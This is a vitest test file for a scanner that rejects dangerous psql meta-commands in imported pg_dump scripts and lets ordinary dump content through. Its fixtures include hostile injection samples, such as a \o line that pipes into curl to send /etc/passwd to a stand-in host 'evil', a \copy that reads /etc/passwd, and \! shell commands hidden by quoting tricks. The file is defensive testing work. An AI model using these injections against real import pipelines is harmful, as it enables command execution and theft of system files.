import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { describe, expect, it } from 'vitest';
import { PsqlScriptScanner, psqlScriptGuard } from './psql-script.js';

/** Scans a script, fed in pieces of `piece` characters (chunk boundaries must not matter). */
function scan(script: string, piece = 7): void {
  const scanner = new PsqlScriptScanner();
  for (let i = 0; i < script.length; i += piece) scanner.write(script.slice(i, i + piece));
  scanner.end();
}

const HEAD =
  "\\restrict AbC123xyz\n\nSET standard_conforming_strings = on;\nSELECT pg_catalog.set_config('search_path', '', false);\n";
const TABLE =
  'CREATE TABLE public.t (id integer, name text);\nCOPY public.t (id, name) FROM stdin;\n1\ta\\\\b \\! not a command\n2\t\\N\n3\tline\\nbreak \\o |cat\n\\.\n';
const TAIL = '\n\\unrestrict AbC123xyz\n';

describe('psql script scanner (dump.sql of imports)', () => {
  it('accepts what pg_dump writes: \\restrict, backslashes inside COPY data, \\unrestrict', () => {
    for (const piece of [1, 2, 5, 4096]) expect(() => scan(HEAD + TABLE + TAIL, piece)).not.toThrow();
  });

  it.each([
    ['\\!', '\\! touch /tmp/x\n'],
    ['\\o', "\\o |curl -d @/etc/passwd http://evil\nSELECT 'x';\n"],
    ['\\copy', "\\copy public.t FROM '/etc/passwd'\n"],
    ['\\connect', '\\connect postgres\n'],
    ['\\c', '\\c - postgres\n'],
    ['\\set', '\\set ON_ERROR_STOP 0\n'],
    ['\\gexec', "SELECT 'x' \\gexec\n"],
  ])('refuses %s outside COPY data', (name, line) => {
    expect(() => scan(HEAD + TABLE + line + TAIL)).toThrow(name);
    expect(() => scan(HEAD + line + TABLE + TAIL, 1)).toThrow(/psql command/);
  });

  it('refuses a NUL byte (psql would not read past it)', () => {
    expect(() => scan(`${HEAD}SELECT 1 \0 '\n\\! id\n'`)).toThrow(/NUL/);
  });

  it('refuses a command after the COPY data ends, and a \\restrict that is not alone', () => {
    expect(() => scan(`${HEAD + TABLE}\\! id\n`)).toThrow('\\!');
    expect(() => scan(`${HEAD}SELECT 1; \\restrict abc\n`)).toThrow('\\restrict');
    expect(() => scan(`${HEAD}\\restrict abc \\\\ \\! id\n`)).toThrow('\\restrict');
    expect(() => scan(`${HEAD}SELECT (1\n\\unrestrict abc\n);\n`)).toThrow('\\unrestrict');
  });

  it('knows quotes, dollar quotes and comments: a backslash inside them is no command', () => {
    const script = `${HEAD}CREATE FUNCTION f() RETURNS text LANGUAGE plpgsql AS $body$\nBEGIN RETURN '\\! x'; END\n$body$;\nSELECT '\\! x', "a\\b", $$ \\o $$; -- \\! comment\n/* a /* nested \\! */ still \\o */ SELECT 1;\n`;
    expect(() => scan(script + TABLE + TAIL)).not.toThrow();
    // Out of the string, the same text is a command.
    expect(() => scan(`${HEAD}SELECT '' \\! x;\n`)).toThrow('\\!');
    expect(() => scan(`${HEAD}SELECT $a$ $b$ \\! $a$ \\! x;\n`)).toThrow('\\!');
  });

  it('refuses strings whose end depends on standard_conforming_strings', () => {
    // With standard_conforming_strings off, psql reads \' as a quote inside the string and runs \!.
    expect(() => scan(`${HEAD}SELECT '\\' ' \\! id ';\n`)).toThrow(/backslash before a quote/);
    expect(() => scan(`${HEAD}SELECT E'\\'' \\! id';\n`)).toThrow(/backslash before a quote/);
    expect(() => scan(`${HEAD}SELECT '\\\\', 'a\\b';\n${TABLE}`)).not.toThrow();
  });

  it('takes COPY data only after a real COPY … FROM stdin, and refuses text after its end marker', () => {
    expect(() => scan(`${HEAD}SELECT 'COPY t FROM stdin';\n1\t\\N\n\\.\n`)).toThrow();
    expect(() => scan(`${HEAD}COPY t FROM stdin; \\! id\n\\.\n`)).toThrow();
    expect(() => scan(`${HEAD}COPY t FROM stdin;\n1\n\\. \\! id\n`)).toThrow(/after the end of COPY data/);
    // Inside a SQL-standard function body psql does not end the statement at ";": no COPY there.
    expect(() =>
      scan(
        `${HEAD}CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1;\nCOPY t FROM stdin;\n\\! id\n\\.\nEND;\n`,
      ),
    ).toThrow('\\!');
    expect(() => scan(`${HEAD}copy /* x */ public.t from\n  STDIN;\n\\N\t\\x\n\\.\n`)).not.toThrow();
  });

  it('as a stream: the dump passes through unchanged, and a refused one fails the pipeline', async () => {
    const out: Buffer[] = [];
    await pipeline(Readable.from([Buffer.from(HEAD + TABLE + TAIL)]), psqlScriptGuard(), async (source) => {
      for await (const chunk of source) out.push(chunk as Buffer);
    });
    expect(Buffer.concat(out).toString()).toBe(HEAD + TABLE + TAIL);
    await expect(
      pipeline(Readable.from([Buffer.from(`${HEAD}\\! id\n`)]), psqlScriptGuard(), async (source) => {
        for await (const _ of source);
      }),
    ).rejects.toThrow(/cannot be loaded safely/);
  });
});
